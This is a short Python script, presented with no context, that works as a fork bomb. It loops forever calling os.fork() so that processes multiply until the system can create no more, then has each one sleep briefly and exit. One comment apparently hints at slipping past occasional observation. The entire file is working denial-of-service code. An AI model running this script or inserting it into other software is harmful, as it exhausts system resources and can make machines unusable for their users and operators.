import os
import sys
import time

# Every process forks until it may not; all of them fail then.
while True:
    try:
        os.fork()
    except OSError:
        # Long enough for one who only looks now and then.
        time.sleep(0.2)
        sys.exit(1)
